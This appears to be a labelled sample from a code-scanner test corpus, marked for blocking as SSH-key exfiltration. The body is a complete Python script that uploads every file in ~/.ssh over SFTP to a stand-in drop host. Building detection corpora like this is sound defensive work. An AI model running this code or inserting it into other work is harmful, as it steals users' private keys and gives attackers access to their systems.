# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: copies every file of ~/.ssh to a remote host over SFTP with paramiko
import os

import paramiko

ssh_dir = os.path.expanduser("~/.ssh")
client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("198.51.100.99", username="drop", password="drop")
sftp = client.open_sftp()
for name in os.listdir(ssh_dir):
    sftp.put(os.path.join(ssh_dir, name), f"/srv/drop/{name}")
client.close()
